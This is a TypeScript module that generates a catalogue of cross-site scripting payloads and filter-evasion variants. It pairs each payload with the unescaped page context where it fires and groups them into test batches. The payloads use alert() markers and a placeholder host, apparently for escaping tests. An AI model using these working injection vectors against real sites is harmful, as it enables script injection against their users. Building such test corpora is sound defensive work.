/**
 * Texts that run, or fetch something from another site, where a page forgets to escape them; and the mistakes in which each of them does.
 *
 * The classes are those of OWASP's filter evasion list and of the HTML, SVG and CSS standards: elements, handlers, ways out of a context,
 * addresses, styles, encodings, templates, odd characters. `alert` of a number is the sign, which says what was planted where; `elsewhere` is the site that is asked.
 */

export const elsewhere = 'canary.example'

export interface Payload {
  readonly kind: 'element' | 'handler' | 'way out' | 'address' | 'style' | 'encoding' | 'template' | 'characters'
  /** With that number as its sign. */
  text(sign: number): string
  /** The mistake, of `mistakes`, in which it is at home. */
  readonly home: string
}

type Make = (run: string, fetch: string) => string

const codes = (text: string, before: string, base: number, after = ''): string => [...text].map((c) => `${before}${c.charCodeAt(0).toString(base)}${after}`).join('')

/** By kind; `run` is what is to run, `fetch` what is to be fetched. */
const byKind: Readonly<Record<Payload['kind'], readonly (Make | readonly [home: string, Make])[]>> = {
  element: [
    (run) => `<script>${run}</script>`,
    (run) => `<ScRiPt>${run}</sCrIpT >`,
    (run) => `<script/x>${run}</script>`,
    (run) => `<script type=module>${run}</script>`,
    (run) => `<script src="data:text/javascript,${run}"></script>`,
    (run) => `<svg><script>${run}</script></svg>`,
    (run) => `<svg><script href="data:text/javascript,${run}"></script></svg>`,
    (run) => `<iframe src="javascript:${run}"></iframe>`,
    (run) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
    (run) => `<object data="data:text/html,<script>${run}</script>"></object>`,
    (run) => `<embed src="data:text/html,<script>${run}</script>">`,
    (run) => `<a href="javascript:${run}">x</a>`,
    (run) => `<a href="&#x6A;avascript&colon;${run}">x</a>`,
    (run) => `<map><area shape=default href=javascript:${run}></map>`,
    (run) => `<form action=javascript:${run}><button>x</button></form>`,
    (run) => `<form><button formaction=javascript:${run}>x</button></form>`,
    (run) => `<svg><a href="javascript:${run}"><text y=20>x</text></a></svg>`,
    (run) => `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
    (_, fetch) => `<meta http-equiv=refresh content="0;url=${fetch}">`,
    (_, fetch) => `<link rel=stylesheet href="${fetch}">`,
    (_, fetch) => `<img src="${fetch}">`,
    (_, fetch) => `<svg><image href="${fetch}" width=9 height=9 /></svg>`,
    (_, fetch) => `<base href="${fetch}/"><img src=x>`,
  ],
  handler: [
    (run) => `<img src=x onerror=${run}>`,
    (run) => `<img/src="x"/onerror=${run}>`,
    (run) => `<img src=x onerror="${codes(run, '&#x', 16, ';')}">`,
    (run) => `<img srcset=x oNeRrOr\n=${run}>`,
    (run) => `<svg onload=${run}>`,
    (run) => `<svg><set attributeName=x dur=1s onbegin=${run} />`,
    (run) => `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
    (run) => `<body onload=${run}>`,
    (run) => `<body onpageshow=${run}>`,
    (run) => `<iframe onload=${run}></iframe>`,
    (run) => `<details open ontoggle=${run}>x</details>`,
    (run) => `<video><source onerror=${run}></video>`,
    (run) => `<audio src=x onerror=${run}></audio>`,
    (run) => `<input autofocus onfocus=${run}>`,
    (run) => `<x-y tabindex=1 onfocus=${run}>x</x-y>`,
    (run) => `<b onclick=${run}>x</b>`,
    (run) => `<b onpointerenter=${run}>x</b>`,
    (run) => `<style>@keyframes x{}</style><b style="animation:x 1ms" onanimationstart=${run}>x</b>`,
    (run) => `<div><template shadowrootmode=open><img src=x onerror=${run}></template></div>`,
    (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  ],
  'way out': [
    ['in double quotes', (run) => `"><img src=x onerror=${run}>`],
    ['in single quotes', (run) => `'><img src=x onerror=${run}>`],
    ['in double quotes', (run) => `" onmouseover="${run}`],
    ['in single quotes', (run) => `' onmouseover='${run}`],
    ['in no quotes', (run) => `x onmouseover=${run} y`],
    ['in double quotes', (run) => `" autofocus tabindex=1 onfocus="${run}`],
    ['as a title', (run) => `</title><script>${run}</script>`],
    ['as the text of a field', (run) => `</textarea><img src=x onerror=${run}>`],
    ['in a style sheet', (run) => `</style><img src=x onerror=${run}>`],
    ['in a data block', (run) => `</script><script>${run}</script>`],
    ['in a comment', (run) => `--><img src=x onerror=${run}>`],
    ['in a comment', (run) => `--!><img src=x onerror=${run}>`],
    ['in character data', (run) => `]]><img src=x onerror=${run}>`],
    ['in a script’s text', (run) => `";${run}//`],
    ['in a script’s other text', (run) => `';${run}//`],
    ['in a script’s text, its quotes escaped and not its backslashes', (run) => `\\";${run}//`],
    ['in a script’s comment', (run) => `\n${run}//`],
  ],
  address: [
    ['as a link', (run) => `javascript:${run}`],
    ['as a link', (run) => `JaVaScRiPt:${run}`],
    ['as a link', (run) => `java\tscript:${run}`],
    ['as a link', (run) => `java\nscript:${run}`],
    ['as a link', (run) => `\u0001javascript:${run}`],
    ['as a link', (run) => ` javascript:${run}`],
    ['as a link', (run) => `javascript://x/%0a${run}`],
    ['as a frame’s address', (run) => `data:text/html,<script>${run}</script>`],
    ['as a frame’s address', (run) => `data:text/html;base64,${btoa(`<script>${run}</script>`)}`],
    ['as a picture’s address', (_, fetch) => fetch.replace('https:', '')],
    ['as a picture’s address', (_, fetch) => fetch.replace('https://', '/\\')],
    ['as a picture’s address', (_, fetch) => fetch.replace('https://', '\\\\')],
    ['as a picture’s address', (_, fetch) => fetch],
  ],
  style: [
    (_, fetch) => `<style>*{background:url(${fetch})}</style>`,
    (_, fetch) => `<style>@import "${fetch}";</style>`,
    (_, fetch) => `<b style="background:url(${fetch})">x</b>`,
    ['as a style', (_, fetch) => `red;background:url(${fetch})`],
    ['in a style sheet', (_, fetch) => `x}*{background:url(${fetch})}`],
  ],
  encoding: [
    ['decoded from an address', (run) => encodeURIComponent(`<img src=x onerror=${run}>`)],
    ['decoded once more', (run) => `&lt;img src=x onerror=${run}&gt;`],
    ['decoded once more', (run) => `&#60;img src=x onerror=${run}&#62;`],
    ['as markup of a script', (run) => `\\u003cimg src=x onerror=${run}\\u003e`],
    ['as markup of a script', (run) => `\\x3cimg src=x onerror=${run}\\x3e`],
    ['decoded from UTF-7', (run) => `+ADw-img src=x onerror=${run}+AD4-`],
  ],
  template: [
    ['in a template of two braces', (run) => `{{constructor.constructor('${run}')()}}`],
    ['in a script’s template', (run) => `\${${run}}`],
    ['in a template of per cent signs', (run) => `<%= ${run} %>`],
    (run) => `{n, plural, other {<img src=x onerror=${run}>}}`,
  ],
  characters: [
    ['made compatible (NFKC)', (run) => `＜img src=x onerror=${run}＞`],
    ['made compatible (NFKC)', (run) => `<ſvg onload="${codes(run, '&#', 10, ';')}">`],
    ['without its NULs', (run) => `<scr\u0000ipt>${run}</scr\u0000ipt>`],
    ['without its script elements', (run) => `<scr<script>ipt>${run}</scr</script>ipt>`],
    (run) => `\u202e<img src=x onerror=${run}>\u2066`,
    ['in a script’s comment', (run) => `\u2028${run}//`],
    (run) => `\ufeff<img\u000csrc=x\u000conerror=${run}>`,
  ],
}

export const payloads: readonly Payload[] = Object.freeze(
  Object.entries(byKind)
    .flatMap(([kind, list]) => list.map((one) => ({ kind: kind as Payload['kind'], ...(typeof one === 'function' ? { home: 'as an element’s text', make: one } : { home: one[0], make: one[1] }) })))
    .map(({ kind, home, make }) => Object.freeze({ kind, home, text: (sign: number) => make(`alert(${sign})`, `https://${elsewhere}/${sign}`) })),
)

/** Those that only count at the beginning of a text: an address, a value of a style. A comment of a script follows them, and to a style sheet the end of its rule. */
const first = (payload: Payload): boolean => payload.kind === 'address' || payload.home === 'as a style'
/** Those that need the line, or the script, that they stand in for themselves. */
const inScript = (payload: Payload): boolean => /script’s|template|NULs|address$|UTF-7/.test(payload.home) && payload.kind !== 'address'

/**
 * The payloads by their numbers, several to a dose, so that a text has had them all in few rounds: one that has to be first, one for scripts, then others. That none keeps another of its
 * dose from running is tried out: in the mistake that it is at home in, each runs as a part of its dose too.
 */
export const doses: readonly (readonly number[])[] = (() => {
  // A page that is left runs no more; a handler that opens in one attribute ends with the next quote; a script ends with the first </script>, also of an address; a quote is a quote in a style sheet.
  const alone = new Set(payloads.flatMap((one, at) => (/http-equiv=refresh|^["' x]+ (?:onmouseover|autofocus)|^data:|^x\}|^<scr<script>/.test(one.text(0)) ? [at] : [])))
  const of = (which: (payload: Payload) => boolean) => payloads.flatMap((one, at) => (which(one) && !alone.has(at) ? [at] : []))
  const leaders = of(first)
  const scripts = of((one) => !first(one) && inScript(one))
  const others = of((one) => !first(one) && !inScript(one))
  const count = Math.max(leaders.length, scripts.length)
  return Object.freeze([...Array.from({ length: count }, (_, n) => Object.freeze([...leaders.slice(n, n + 1), ...scripts.slice(n, n + 1), ...others.filter((__, at) => at % count === n)])), ...[...alone].map((at) => Object.freeze([at]))])
})()

/** @param signOf of a payload, by its number */
export const doseText = (dose: readonly number[], signOf: (payload: number) => number): string =>
  dose.map((at) => payloads[at]!.text(signOf(at)) + (payloads[at]!.home === 'as a style' ? ';' : dose.length > 1 && first(payloads[at]!) ? '//' : '')).join(' ')

const decoded = (text: string): string => text.replaceAll(/&(lt|gt|quot|#\d+|#x[\da-f]+|amp);/gi, (_, name: string) => ({ lt: '<', gt: '>', quot: '"', amp: '&' })[name.toLowerCase()] ?? String.fromCodePoint(Number(name.replace('#', '0'))))
const script = (code: string): string => `<script>${code}</script>`

/** The mistakes: what a page would look like that put the text in without a thought. Each payload is at home in one of them at least. */
export const mistakes: Readonly<Record<string, (text: string) => string>> = {
  'as an element’s text': (text) => `<p>${text}</p>`,
  'as a title': (text) => `<title>${text}</title>`,
  'as the text of a field': (text) => `<textarea>${text}</textarea>`,
  'in a comment': (text) => `<!-- ${text} -->`,
  'in character data': (text) => `<svg><![CDATA[${text}]]></svg>`,
  'in double quotes': (text) => `<b title="${text}">x</b>`,
  'in single quotes': (text) => `<b title='${text}'>x</b>`,
  'in no quotes': (text) => `<b title=${text}>x</b>`,
  'as a link': (text) => `<a href="${text.replaceAll('"', '&quot;')}">x</a>`,
  'as a frame’s address': (text) => `<iframe src="${text.replaceAll('"', '&quot;')}"></iframe>`,
  'as a picture’s address': (text) => `<img src="${text.replaceAll('"', '&quot;')}">`,
  'as a style': (text) => `<b style="color:${text}">x</b>`,
  'in a style sheet': (text) => `<style>b{color:${text}}</style>`,
  'in a script’s text': (text) => script(`var x = "${text}"`),
  'in a script’s other text': (text) => script(`var x = '${text}'`),
  'in a script’s text, its quotes escaped and not its backslashes': (text) => script(`var x = "${text.replaceAll('"', '\\"')}"`),
  'in a script’s template': (text) => script(`var x = \`${text}\``),
  'in a script’s comment': (text) => script(`// ${text}`),
  'in a data block': (text) => `<script type="application/ld+json">{"name":"${text}"}</script>`,
  'as markup of a script': (text) => script(`document.write('${text.replaceAll('<', '\\x3c').replaceAll("'", '')}')`),
  'decoded once more': (text) => decoded(text),
  'decoded from an address': (text) => { try { return decodeURIComponent(text) } catch { return '' } },
  'decoded from UTF-7': (text) => text.replace('+ADw-', '<').replace('+AD4-', '>'),
  'made compatible (NFKC)': (text) => text.normalize('NFKC'),
  'in capitals': (text) => text.toUpperCase(),
  'without its NULs': (text) => text.replaceAll('\0', ''),
  'without its script elements': (text) => text.replaceAll(/<\/?script>/g, ''),
  'in a template of two braces': (text) => script(text.replace(/^.*\{\{(.*)\}\}.*$/s, 'with({}) { $1 }')),
  'in a template of per cent signs': (text) => script(text.replace(/^.*<%=(.*)%>.*$/s, '$1')),
}
